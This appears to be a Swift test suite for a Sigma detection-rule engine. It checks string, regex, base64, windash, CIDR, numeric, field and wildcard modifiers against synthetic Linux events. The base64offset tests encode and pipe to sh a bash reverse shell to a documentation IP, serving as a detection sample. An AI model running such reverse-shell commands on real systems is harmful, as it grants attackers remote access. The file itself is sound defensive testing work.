import Foundation
import Testing

@testable import HerdwatchDetection

/// One inline rule (its detection), an event, and whether the rule must fire on it.
struct ModifierCase: Sendable, CustomTestStringConvertible {
    let name: String
    let detection: String
    let logsource: String
    let event: String
    let fires: Bool

    init(_ name: String, _ detection: String, _ event: String, _ fires: Bool, logsource: String = Logsource.process) {
        self.name = name
        self.detection = detection
        self.logsource = logsource
        self.event = event
        self.fires = fires
    }

    var testDescription: String { name + (fires ? " fires" : " does not fire") }
}

enum Logsource {
    static let process = "product: linux\ncategory: process_creation"
    static let network = "product: linux\ncategory: network_connection"
    static let auditd = "product: linux\nservice: auditd"
    static let linux = "product: linux"
}

/// `selection:` holding `body`, and `condition: selection`.
private func selection(_ body: String) -> String {
    "selection:\n" + Rules.indent(body) + "\ncondition: selection"
}

/// A process whose command line is `line` (and whose arguments are its words).
private func cmd(_ line: String, exe: String = "/usr/bin/sh") -> String {
    ECS.process(exe, line.split(separator: " ").map(String.init), commandLine: line)
}

private func exe(_ path: String) -> String { ECS.process(path, [ECS.basename(path)]) }
private func connect(_ ip: String, port: Int = 443) -> String { ECS.network("/usr/bin/curl", ip: ip, port: port) }
private func log(_ message: String) -> String { ECS.authLog(message, action: "auth-log-message", outcome: "unknown") }
private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedString() }

enum ModifierCases {
    static let strings: [ModifierCase] = [
        ModifierCase("contains, any case", selection("CommandLine|contains: 'EvIl'"), cmd("run evil now"), true),
        ModifierCase("contains", selection("CommandLine|contains: 'EvIl'"), cmd("run good now"), false),
        ModifierCase("startswith", selection("CommandLine|startswith: 'curl '"), cmd("curl -o x"), true),
        ModifierCase("startswith, not at the start", selection("CommandLine|startswith: 'curl '"), cmd("xcurl -o x"), false),
        ModifierCase("endswith", selection("CommandLine|endswith: '.sh'"), cmd("bash /tmp/a.sh"), true),
        ModifierCase("endswith, not at the end", selection("CommandLine|endswith: '.sh'"), cmd("bash /tmp/a.sh.txt"), false),
        // Indexes scan only the end of a long value an anchored literal can be at.
        ModifierCase(
            "startswith, long value", selection("CommandLine|startswith: 'curl '"), cmd("curl " + String(repeating: "x", count: 5000)),
            true),
        ModifierCase(
            "startswith, long value, literal inside only", selection("CommandLine|startswith: 'curl '"),
            cmd("x" + String(repeating: " curl ", count: 900)), false),
        ModifierCase(
            "endswith, long value", selection("CommandLine|endswith: '.sh'"), cmd(String(repeating: "y", count: 5000) + " a.sh"), true),
        ModifierCase(
            "endswith, long value, literal at the start only", selection("CommandLine|endswith: '.sh'"),
            cmd("a.sh " + String(repeating: "y", count: 5000)), false),
        ModifierCase(
            "auditd argument startswith, long argument", selection("a1|startswith: '--cpu-priority'"),
            ECS.process("/usr/bin/xmrig", ["xmrig", "--cpu-priority=5" + String(repeating: "z", count: 8000)]), true,
            logsource: Logsource.auditd),
        ModifierCase(
            "auditd argument startswith, later in a long argument", selection("a1|startswith: '--cpu-priority'"),
            ECS.process("/usr/bin/xmrig", ["xmrig", String(repeating: "z", count: 8000) + "--cpu-priority=5"]), false,
            logsource: Logsource.auditd),
        ModifierCase("plain value is equality", selection("CommandLine: 'id'"), cmd("id -u"), false),
        ModifierCase("plain value, any case", selection("CommandLine: 'ID -U'"), cmd("id -u"), true),
        ModifierCase("a value list is any of", selection("CommandLine|contains:\n    - '-o'\n    - 'http'"), cmd("curl ftp://a -o x"), true),
        ModifierCase("contains|all, all present", selection("CommandLine|contains|all:\n    - '-o'\n    - 'http'"), cmd("curl -o x http://a"), true),
        ModifierCase("contains|all, one missing", selection("CommandLine|contains|all:\n    - '-o'\n    - 'http'"), cmd("curl -o x ftp://a"), false),
        ModifierCase(
            "keyword |all, all present", "keywords:\n    '|all':\n        - 'alpha'\n        - 'beta'\ncondition: keywords",
            log("alpha and beta"), true, logsource: Logsource.linux),
        ModifierCase(
            "keyword |all, one missing", "keywords:\n    '|all':\n        - 'alpha'\n        - 'beta'\ncondition: keywords",
            log("alpha alone"), false, logsource: Logsource.linux),
        ModifierCase(
            "keyword list is any of", "keywords:\n    - 'alpha'\n    - 'gamma'\ncondition: keywords", log("alpha alone"), true,
            logsource: Logsource.linux),
        ModifierCase(
            "keyword, any case, anywhere", "keywords:\n    - 'SEGFAULT at'\ncondition: keywords", log("app[12]: segfault at 0 ip 0"), true,
            logsource: Logsource.linux),
        ModifierCase(
            "keyword absent", "keywords:\n    - 'segfault at'\ncondition: keywords", log("app[12]: exited normally"), false,
            logsource: Logsource.linux),
        ModifierCase(
            "keyword in an auditd record", "keywords:\n    - 'evil.sh'\ncondition: keywords", ECS.process("/usr/bin/bash", ["bash", "/tmp/evil.sh"]),
            true, logsource: Logsource.auditd),
        ModifierCase(
            "keyword not in any auditd record", "keywords:\n    - 'evil.sh'\ncondition: keywords",
            ECS.process("/usr/bin/bash", ["bash", "/tmp/good.sh"]), false, logsource: Logsource.auditd),
    ]

    static let regexes: [ModifierCase] = [
        ModifierCase("re", selection("CommandLine|re: '^curl .*EVIL$'"), cmd("curl x EVIL"), true),
        ModifierCase("re is case-sensitive", selection("CommandLine|re: '^curl .*EVIL$'"), cmd("curl x evil"), false),
        ModifierCase("re|i", selection("CommandLine|re|i: '^curl .*EVIL$'"), cmd("curl x evil"), true),
        ModifierCase("re finds a match anywhere", selection("CommandLine|re: '-[a-z]{3}\\d'"), cmd("tool --abc1 x"), true),
        ModifierCase("re without m: ^ is the start of the text", selection("CommandLine|re: '^second$'"), cmd("first\nsecond\nthird"), false),
        ModifierCase("re|m: ^ and $ at line ends", selection("CommandLine|re|m: '^second$'"), cmd("first\nsecond\nthird"), true),
        ModifierCase("re without s: . stops at a newline", selection("CommandLine|re: 'first.second'"), cmd("first\nsecond"), false),
        ModifierCase("re|s: . matches a newline", selection("CommandLine|re|s: 'first.second'"), cmd("first\nsecond"), true),
        ModifierCase("re|i|m|s together", selection("CommandLine|re|i|m|s: '^SECOND.THIRD$'"), cmd("first\nsecond\nthird"), true),
    ]

    static let encodings: [ModifierCase] = [
        ModifierCase(
            "base64|contains", selection("CommandLine|base64|contains: 'http://evil.example'"),
            cmd("echo " + base64("http://evil.example") + " | base64 -d"), true),
        ModifierCase(
            "base64|contains, other text", selection("CommandLine|base64|contains: 'http://evil.example'"),
            cmd("echo " + base64("http://good.example") + " | base64 -d"), false),
        ModifierCase(
            "base64 is case-sensitive", selection("CommandLine|base64|contains: 'http://evil.example'"),
            cmd("echo " + base64("http://evil.example").lowercased() + " | base64 -d"), false),
        ModifierCase(
            "base64offset, other text", selection("CommandLine|base64offset|contains: '/bin/bash -i'"),
            cmd("echo " + base64("xx/bin/dash -i >& /dev/tcp/1/2") + " | base64 -d | sh"), false),
        ModifierCase("windash, dash", selection("CommandLine|windash|contains: ' -f '"), cmd("tool -f x"), true),
        ModifierCase("windash, slash", selection("CommandLine|windash|contains: ' -f '"), cmd("tool /f x"), true),
        ModifierCase("windash, en dash", selection("CommandLine|windash|contains: ' -f '"), cmd("tool \u{2013}f x"), true),
        ModifierCase("windash, em dash", selection("CommandLine|windash|contains: ' -f '"), cmd("tool \u{2014}f x"), true),
        ModifierCase("windash, horizontal bar", selection("CommandLine|windash|contains: ' -f '"), cmd("tool \u{2015}f x"), true),
        ModifierCase("windash, no dash", selection("CommandLine|windash|contains: ' -f '"), cmd("tool f x"), false),
        ModifierCase("without windash, a slash is not a dash", selection("CommandLine|contains: ' -f '"), cmd("tool /f x"), false),
    ]

    static let networks: [ModifierCase] = [
        ModifierCase("cidr IPv4", selection("DestinationIp|cidr: '10.0.0.0/8'"), connect("10.1.2.3"), true, logsource: Logsource.network),
        ModifierCase("cidr IPv4, outside", selection("DestinationIp|cidr: '10.0.0.0/8'"), connect("11.0.0.1"), false, logsource: Logsource.network),
        ModifierCase(
            "cidr IPv4 /25, last inside", selection("DestinationIp|cidr: '192.168.1.0/25'"), connect("192.168.1.127"), true,
            logsource: Logsource.network),
        ModifierCase(
            "cidr IPv4 /25, first outside", selection("DestinationIp|cidr: '192.168.1.0/25'"), connect("192.168.1.128"), false,
            logsource: Logsource.network),
        ModifierCase("cidr IPv6", selection("DestinationIp|cidr: 'fe80::/10'"), connect("febf::1"), true, logsource: Logsource.network),
        ModifierCase("cidr IPv6, outside", selection("DestinationIp|cidr: 'fe80::/10'"), connect("fec0::1"), false, logsource: Logsource.network),
        ModifierCase(
            "cidr IPv6 /32", selection("DestinationIp|cidr: '2001:db8::/32'"), connect("2001:db8:ffff::1"), true, logsource: Logsource.network),
        ModifierCase(
            "cidr IPv6 /32, outside", selection("DestinationIp|cidr: '2001:db8::/32'"), connect("2001:db9::1"), false,
            logsource: Logsource.network),
        ModifierCase(
            "cidr IPv6 network, IPv4 address", selection("DestinationIp|cidr: '::/0'"), connect("10.0.0.1"), false, logsource: Logsource.network),
        ModifierCase(
            "cidr list, IPv6 member", selection("DestinationIp|cidr:\n    - '10.0.0.0/8'\n    - 'fc00::/7'"), connect("fd00::5"), true,
            logsource: Logsource.network),
        ModifierCase("lt", selection("DestinationPort|lt: 1024"), connect("10.0.0.1", port: 1023), true, logsource: Logsource.network),
        ModifierCase("lt, equal", selection("DestinationPort|lt: 1024"), connect("10.0.0.1", port: 1024), false, logsource: Logsource.network),
        ModifierCase("lte, equal", selection("DestinationPort|lte: 1024"), connect("10.0.0.1", port: 1024), true, logsource: Logsource.network),
        ModifierCase("lte, above", selection("DestinationPort|lte: 1024"), connect("10.0.0.1", port: 1025), false, logsource: Logsource.network),
        ModifierCase("gt", selection("DestinationPort|gt: 1024"), connect("10.0.0.1", port: 1025), true, logsource: Logsource.network),
        ModifierCase("gt, equal", selection("DestinationPort|gt: 1024"), connect("10.0.0.1", port: 1024), false, logsource: Logsource.network),
        ModifierCase("gte, equal", selection("DestinationPort|gte: 1024"), connect("10.0.0.1", port: 1024), true, logsource: Logsource.network),
        ModifierCase("gte, below", selection("DestinationPort|gte: 1024"), connect("10.0.0.1", port: 1023), false, logsource: Logsource.network),
        ModifierCase(
            "gt on text digits (EXECVE argument)", selection("type: EXECVE\na2|gt: 1000"), ECS.process("/usr/bin/sleep", ["sleep", "-s", "3600"]),
            true, logsource: Logsource.auditd),
        ModifierCase(
            "gt on text that is no number", selection("type: EXECVE\na2|gt: 1000"), ECS.process("/usr/bin/sleep", ["sleep", "-s", "1h"]),
            false, logsource: Logsource.auditd),
        ModifierCase(
            "number value against a JSON number", selection("DestinationPort: 443"), connect("10.0.0.1", port: 443), true,
            logsource: Logsource.network),
        ModifierCase(
            "number value against another number", selection("DestinationPort: 443"), connect("10.0.0.1", port: 4430), false,
            logsource: Logsource.network),
    ]

    static let fields: [ModifierCase] = [
        ModifierCase("exists: true, present", selection("CurrentDirectory|exists: true"), ECS.process("/usr/bin/id", ["id"], cwd: "/tmp"), true),
        ModifierCase("exists: true, absent", selection("CurrentDirectory|exists: true"), ECS.process("/usr/bin/id", ["id"], cwd: nil), false),
        ModifierCase("exists: false, absent", selection("CurrentDirectory|exists: false"), ECS.process("/usr/bin/id", ["id"], cwd: nil), true),
        ModifierCase("exists: false, present", selection("CurrentDirectory|exists: false"), ECS.process("/usr/bin/id", ["id"], cwd: "/tmp"), false),
        ModifierCase("null matches an absent field", selection("CurrentDirectory: null"), ECS.process("/usr/bin/id", ["id"], cwd: nil), true),
        ModifierCase("null does not match a value", selection("CurrentDirectory: null"), ECS.process("/usr/bin/id", ["id"], cwd: "/tmp"), false),
        ModifierCase("'' matches an empty value", selection("CurrentDirectory: ''"), ECS.process("/usr/bin/id", ["id"], cwd: ""), true),
        ModifierCase("'' does not match an absent field", selection("CurrentDirectory: ''"), ECS.process("/usr/bin/id", ["id"], cwd: nil), false),
        ModifierCase("'' does not match a value", selection("CurrentDirectory: ''"), ECS.process("/usr/bin/id", ["id"], cwd: "/tmp"), false),
        ModifierCase(
            "fieldref, equal", selection("ParentImage|fieldref: Image"), ECS.process("/usr/bin/bash", ["bash"], parent: "/usr/bin/bash"), true),
        ModifierCase(
            "fieldref, different", selection("ParentImage|fieldref: Image"), ECS.process("/usr/bin/bash", ["bash"], parent: "/usr/bin/sh"), false),
        ModifierCase(
            "fieldref, any case", selection("ParentImage|fieldref: Image"), ECS.process("/usr/bin/bash", ["bash"], parent: "/USR/BIN/BASH"), true),
        ModifierCase(
            "fieldref|cased", selection("ParentImage|fieldref|cased: Image"), ECS.process("/usr/bin/bash", ["bash"], parent: "/USR/BIN/BASH"),
            false),
        ModifierCase("cased, same case", selection("CommandLine|cased: 'EVIL'"), cmd("EVIL"), true),
        ModifierCase("cased, other case", selection("CommandLine|cased: 'EVIL'"), cmd("evil"), false),
        ModifierCase("contains|cased, same case", selection("CommandLine|contains|cased: 'Evil'"), cmd("an Evil one"), true),
        ModifierCase("contains|cased, other case", selection("CommandLine|contains|cased: 'Evil'"), cmd("an evil one"), false),
        ModifierCase(
            "number value against EXECVE text", selection("type: EXECVE\na1: 777"), ECS.process("/usr/bin/chmod", ["chmod", "777", "/tmp/x"]), true,
            logsource: Logsource.auditd),
        ModifierCase(
            "number value is not a prefix", selection("type: EXECVE\na1: 777"), ECS.process("/usr/bin/chmod", ["chmod", "7777", "/tmp/x"]), false,
            logsource: Logsource.auditd),
        ModifierCase(
            "list of maps, first", "selection:\n    - Image|endswith: '/curl'\n    - Image|endswith: '/wget'\ncondition: selection",
            exe("/usr/bin/curl"), true),
        ModifierCase(
            "list of maps, second", "selection:\n    - Image|endswith: '/curl'\n    - Image|endswith: '/wget'\ncondition: selection",
            exe("/usr/bin/wget"), true),
        ModifierCase(
            "list of maps, neither", "selection:\n    - Image|endswith: '/curl'\n    - Image|endswith: '/wget'\ncondition: selection",
            exe("/usr/bin/fetch"), false),
        ModifierCase(
            "a map needs every field", selection("Image|endswith: '/curl'\nCommandLine|contains: ' -k '"), ECS.process("/usr/bin/curl", ["curl", "https://a"]),
            false),
    ]

    static let wildcards: [ModifierCase] = [
        ModifierCase("* and ?", selection("Image: '/usr/bin/pyth?n*'"), exe("/usr/bin/python3"), true),
        ModifierCase("? needs one character", selection("Image: '/usr/bin/pyth?n*'"), exe("/usr/bin/pythn3"), false),
        ModifierCase("? is exactly one", selection("CommandLine: 'c?t /etc/*'"), cmd("caat /etc/passwd"), false),
        ModifierCase("? is one character, not one byte", selection("CommandLine: 'caf?'"), cmd("café"), true),
        ModifierCase("* inside, anchored end", selection("CommandLine: 'curl*evil'"), cmd("curl http://evil"), true),
        ModifierCase("* inside, text after the end", selection("CommandLine: 'curl*evil'"), cmd("curl http://evil.com"), false),
        ModifierCase("escaped * is a star", selection("CommandLine: 'echo \\*'"), cmd("echo *"), true),
        ModifierCase("escaped * is not a wildcard", selection("CommandLine: 'echo \\*'"), cmd("echo x"), false),
        ModifierCase("escaped ? is a question mark", selection("CommandLine: 'what\\?'"), cmd("what?"), true),
        ModifierCase("escaped ? is not a wildcard", selection("CommandLine: 'what\\?'"), cmd("whats"), false),
        ModifierCase("escaped backslash", selection("CommandLine: 'C:\\\\temp'"), cmd("C:\\temp"), true),
        ModifierCase("escaped backslash is one backslash", selection("CommandLine: 'C:\\\\temp'"), cmd("C:\\\\temp"), false),
        ModifierCase("escaped backslash before a wildcard", selection("CommandLine: 'a\\\\*'"), cmd("a\\bcd"), true),
        ModifierCase("a lone backslash stays", selection("CommandLine: 'a\\b'"), cmd("a\\b"), true),
        ModifierCase("three backslashes and a star: both plain", selection("CommandLine: 'a\\\\\\*'"), cmd("a\\*"), true),
        ModifierCase("three backslashes and a star: no wildcard", selection("CommandLine: 'a\\\\\\*'"), cmd("a\\xyz"), false),
        ModifierCase("three backslashes are two", selection("CommandLine: 'a\\\\\\b'"), cmd("a\\\\b"), true),
        ModifierCase("four backslashes are two", selection("CommandLine: 'a\\\\\\\\b'"), cmd("a\\\\b"), true),
        ModifierCase("a percent sign without expand is literal", selection("CommandLine|contains: '%Servers%'"), cmd("echo %Servers%"), true),
    ]

    static let all = strings + regexes + encodings + networks + fields + wildcards
}

@Suite struct ModifierTests {
    @Test(arguments: ModifierCases.all)
    func modifier(_ test: ModifierCase) throws {
        let yaml = Rules.rule(test.detection, logsource: test.logsource)
        #expect(try Rules.fires(yaml, on: test.event) == test.fires, "\(yaml)\nevent: \(test.event)")
    }

    /// The value placed at each of the three offsets of a base64 group.
    @Test(arguments: 0..<3)
    func base64offsetMatchesEveryAlignment(_ offset: Int) throws {
        let yaml = Rules.rule(selection("CommandLine|base64offset|contains: '/bin/bash -i'"))
        let payload = String(repeating: "x", count: offset) + "/bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
        let encoded = base64(payload)
        #expect(try Rules.fires(yaml, on: cmd("echo " + encoded + " | base64 -d | sh")), "offset \(offset): \(encoded)")
        let other = String(repeating: "x", count: offset) + "/bin/dash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
        #expect(try !Rules.fires(yaml, on: cmd("echo " + base64(other) + " | base64 -d | sh")))
    }

    @Test func base64offsetFormsAreTheThreeAlignments() {
        // pySigma's forms of 'http': b64encode(i * b" " + value)[(0, 2, 3)[i] : (None, -3, -2)[(len + i) % 3]].
        #expect(SigmaLoader.base64Offsets(Array("http".utf8)) == ["aHR0c", "h0dH", "odHRw"])
    }
}

extension ModifierTests {
    /// A lone backslash is a literal backslash (Sigma's escaping); one that ends a value must stay
    /// literal when contains/startswith or a keyword search puts a wildcard after it.
    @Test func trailingBackslashStaysLiteralBeforeAnAddedWildcard() throws {
        let event = cmd("copy C:\\Temp\\ D:\\")
        // Without a wildcard after it the lone backslash is literal already.
        #expect(try Rules.fires(Rules.rule(selection("CommandLine|endswith: 'D:\\'")), on: event))
        #expect(try Rules.fires(Rules.rule(selection("CommandLine|contains: 'C:\\\\Temp'")), on: event))
        #expect(try Rules.fires(Rules.rule(selection("CommandLine|contains: 'C:\\Temp\\'")), on: event))
        #expect(try Rules.fires(Rules.rule(selection("CommandLine|startswith: 'copy C:\\'")), on: event))
        let keyword = Rules.rule("keywords:\n    - 'C:\\Temp\\'\ncondition: keywords", logsource: Logsource.linux)
        #expect(try Rules.fires(keyword, on: log("copy C:\\Temp\\ D:\\")))
    }
}

extension ModifierTests {
    /// Sigma: "windash ... converts `-` values into `/` and vice versa".
    @Test func windashAlsoTurnsASlashIntoADash() throws {
        let yaml = Rules.rule(selection("CommandLine|windash|contains: ' /c '"))
        #expect(try Rules.fires(yaml, on: cmd("cmd /c x")))
        #expect(try !Rules.fires(yaml, on: cmd("cmd c x")))
        #expect(try Rules.fires(yaml, on: cmd("cmd -c x")))
        #expect(try Rules.fires(yaml, on: cmd("cmd \u{2013}c x")))
    }
}
